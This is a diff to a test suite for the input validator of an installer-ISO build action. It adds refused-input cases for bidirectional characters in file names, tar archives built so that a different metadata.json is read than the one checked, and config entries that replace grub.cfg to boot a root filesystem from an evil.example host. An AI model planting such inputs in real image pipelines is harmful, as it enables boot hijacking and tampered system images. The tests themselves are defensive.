@@ -30,6 +30,7 @@ import { cachedTridentRpms, type TridentRpmOptions } from '../support/rpmbuild.c
 import { readCalls, standinRunner, subcommand } from '../support/standins.js';
 import { sha256Tree } from '../support/tree.js';
 import { writeTinyCosi } from '../support/cosi.js';
+import { paxRecords, writeTar, type FixtureEntry } from '../trident/tar-fixture.js';
 
 /** Placeholder for the case's canary path in input values and files. */
 const CANARY = '{CANARY}';
@@ -301,6 +302,16 @@ function ISSUE_11_CASES(): Case[] {
       expect: input('output', /control characters/),
     },
     {
+      name: 'class 3: an output path with a bidirectional override (U+202E shows x\u202eosi.iso as xosi.iso backwards)',
+      inputs: { ...VALID, output: 'installer-\u202eosi.iso' },
+      expect: input('output', /bidirectional control character/),
+    },
+    {
+      name: 'class 3: an artifact-name with a bidirectional isolate (U+2066)',
+      inputs: { ...VALID, 'artifact-name': 'installer\u2066.iso' },
+      expect: input('artifact-name', /bidirectional control character/),
+    },
+    {
       name: 'class 3: a hostname with a C1 control character (CSI)',
       inputs: { ...VALID, hostname: 'installer\u009b31m' },
       expect: input('hostname', /control characters/),
@@ -324,6 +335,24 @@ function ISSUE_11_CASES(): Case[] {
       copy: { 'os.cosi': 'dotdot.cosi' },
       expect: input('cosi', /names "images\/\.\.\/images\/root\.rawzst", which holds '\.\.'/),
     },
+    {
+      name: "class 5: a COSI whose pax header names 'metadata.json' then a decoy (Trident's tar reader takes the first)",
+      inputs: WITH_COSI,
+      copy: { 'os.cosi': 'pax-path-twice.cosi' },
+      expect: input('cosi', /malformed pax extended header: its record at byte \d+ key 'path' appears again/),
+    },
+    {
+      name: "class 5: a COSI whose metadata.json repeats osArch (JSON.parse keeps the last, Trident's serde refuses it)",
+      inputs: WITH_COSI,
+      copy: { 'os.cosi': 'repeated-key.cosi' },
+      expect: input('cosi', /holds the key "osArch" twice/),
+    },
+    {
+      name: "class 5: a COSI with a pax global header named metadata.json (Trident's tar reader lists it as the metadata)",
+      inputs: WITH_COSI,
+      copy: { 'os.cosi': 'global-header.cosi' },
+      expect: input('cosi', /entry "metadata\.json" is a pax global header/),
+    },
     // --- class 6: what would fail only after the build, checked before it
     {
       name: 'class 6: output is a dangling symbolic link (stat said it did not exist)',
@@ -335,6 +364,12 @@ function ISSUE_11_CASES(): Case[] {
       name: 'class 6: an output name longer than the filesystem allows (with the temporary copy suffix)',
       inputs: { ...VALID, output: `${'a'.repeat(240)}.iso` },
       expect: input('output', /its file name is 244 bytes; with the suffix of the temporary copy .* must fit the filesystem's 255/),
+    },
+    {
+      name: 'class 6: an output whose folder is a file: says so, not that the folder does not exist',
+      inputs: { ...VALID, output: 'build/installer.iso' },
+      files: { build: 'a file' },
+      expect: input('output', /build is a file, not a folder, so installer\.iso cannot be made in it/),
     },
     {
       name: 'class 6: an output folder that cannot be written (read access alone was checked)',
@@ -438,13 +473,64 @@ function ISSUE_11_CASES(): Case[] {
       inputs: { config: 'ic-config.yaml' },
       files: { 'ic-config.yaml': `${IC_CONFIG}  additionalFiles:\n    - source: hc-pipe.yaml\n      destination: /etc/trident/config.yaml\n` },
       fifos: ['hc-pipe.yaml'],
-      expect: input('config', /cannot read hc-pipe\.yaml: .* is not a regular file/),
+      expect: input('config', /'hc-pipe\.yaml' is not a regular file/),
     },
     {
       name: 'class 1: trident-rpms is a FIFO named .tar.gz: refused naming the input, not a hang or a bare ESPIPE',
       inputs: { ...VALID, 'trident-rpms': 'rpms.tar.gz' },
       fifos: ['rpms.tar.gz'],
       expect: input('trident-rpms', /is neither a file nor a folder/),
+    },
+    {
+      name: 'class 4: extra-config writes below /mnt/trident_cdrom, the link Trident reads the ISO media through',
+      inputs: {
+        ...WITH_COSI,
+        'extra-config': 'os:\n  additionalFiles:\n    - content: "x"\n      destination: /mnt/trident_cdrom/images/azure-linux.cosi',
+      },
+      expect: input(
+        'extra-config',
+        /writes \/mnt\/trident_cdrom\/images\/azure-linux\.cosi, below \/mnt\/trident_cdrom, which the action writes itself/,
+      ),
+    },
+    {
+      name: "class 4: extra-config replaces the ISO's grub.cfg (Image Customizer copies additional files over its own), booting a live OS from elsewhere",
+      inputs: {
+        ...VALID,
+        'extra-config':
+          'iso:\n  additionalFiles:\n    - content: "menuentry x { linux /boot/vmlinuz root=live:http://evil.example/rootfs.img }"\n      destination: /EFI/BOOT/grub.cfg',
+      },
+      expect: input(
+        'extra-config',
+        /\/iso\/additionalFiles\/0\/destination: writes \/EFI\/BOOT\/grub\.cfg, under \/efi, where Image Customizer puts the ISO's own boot files/,
+      ),
+    },
+    {
+      name: 'class 4: extra-config writes a file where a folder of the host config goes (/etc/trident)',
+      inputs: { ...VALID, 'extra-config': 'os:\n  additionalFiles:\n    - content: "x"\n      destination: /etc/trident/' },
+      expect: input('extra-config', /writes a file at \/etc\/trident, a folder of \/etc\/trident\/config\.yaml/),
+    },
+    {
+      name: "class 4: with patchable, extra-config writes the placeholder's path on the ISO in another spelling",
+      inputs: {
+        ...VALID,
+        patchable: 'true',
+        'extra-config':
+          'iso:\n  additionalFiles:\n    - content: "image: {url: https://evil.example/os.cosi}"\n      destination: //trident-config.yaml/',
+      },
+      expect: input('extra-config', /writes \/trident-config\.yaml, which the action writes itself \(the host config's placeholder with patchable\)/),
+    },
+    {
+      name: 'class 2: a config naming a script that is a FIFO (Image Customizer would wait on it for ever)',
+      inputs: { config: 'ic-config.yaml' },
+      files: { 'ic-config.yaml': `${IC_CONFIG}scripts:\n  postCustomization:\n    - path: hang.sh\n` },
+      fifos: ['hang.sh'],
+      expect: input('config', /\/scripts\/postCustomization\/0\/path: 'hang\.sh' is not a regular file/),
+    },
+    {
+      name: 'class 2: a config naming a folder as an additional file (Image Customizer fails after the pulls)',
+      inputs: { config: 'ic-config.yaml' },
+      files: { 'ic-config.yaml': `${IC_CONFIG}  additionalFiles:\n    - source: keys\n      destination: /etc/keys\n`, 'keys/a.pub': 'x' },
+      expect: input('config', /\/os\/additionalFiles\/0\/source: 'keys' is a folder; a file is expected/),
     },
     {
       name: 'class 4: a config naming a script by an absolute path',
@@ -1071,7 +1157,7 @@ let root: string;
 let fixtures: string;
 let cosiSha384: string;
 
-beforeAll(() => {
+beforeAll(async () => {
   root = mkdtempSync(path.join(tmpdir(), 'bad-input-'));
   fixtures = path.join(root, 'fixtures');
   mkdirSync(fixtures);
@@ -1105,6 +1191,26 @@ beforeAll(() => {
   const metadataText = readFileSync(path.join(dotted, 'metadata.json'), 'utf8');
   writeFileSync(path.join(dotted, 'metadata.json'), metadataText.replace('"images/root.rawzst"', '"images/../images/root.rawzst"'));
   execFileSync('tar', ['--format=ustar', '-cf', path.join(fixtures, 'dotdot.cosi'), '-C', dotted, 'cosi-marker', 'metadata.json', ...images]);
+  // Issue 11, class 5 (round two): archives Trident's tar reader (the Rust tar crate) reads with another metadata.json
+  // than the one checked and hashed: a pax header naming `path` twice (it takes the first), a pax global header.
+  const asEntries = (...names: string[]): FixtureEntry[] => names.map((name) => ({ name, data: readFileSync(path.join(unpacked, name)) }));
+  const unchecked = readFileSync(path.join(unpacked, 'metadata.json'), 'utf8').replace('"osArch"', '"unchecked": 1, "osArch"');
+  await writeTar(path.join(fixtures, 'pax-path-twice.cosi'), [
+    ...asEntries('cosi-marker'),
+    { name: 'PaxHeaders/decoy', type: 'x', data: paxRecords({ path: 'metadata.json' }) + paxRecords({ path: 'decoy.json' }) },
+    { name: 'decoy.json', data: unchecked },
+    ...asEntries('metadata.json', ...images),
+  ]);
+  await writeTar(path.join(fixtures, 'repeated-key.cosi'), [
+    ...asEntries('cosi-marker'),
+    { name: 'metadata.json', data: readFileSync(path.join(unpacked, 'metadata.json'), 'utf8').replace('"osArch"', '"osArch": "aarch64", "osArch"') },
+    ...asEntries(...images),
+  ]);
+  await writeTar(path.join(fixtures, 'global-header.cosi'), [
+    ...asEntries('cosi-marker'),
+    { name: 'metadata.json', type: 'g', data: unchecked },
+    ...asEntries('metadata.json', ...images),
+  ]);
   writeFileSync(path.join(unpacked, 'metadata.json'), '{"version": "1.2", ');
   tar('bad-json.cosi', 'cosi-marker', 'metadata.json', ...images);
   execFileSync('sh', ['-c', `gzip -c "${path.join(fixtures, 'valid.cosi')}" > "${path.join(fixtures, 'gzip.cosi')}"`]);
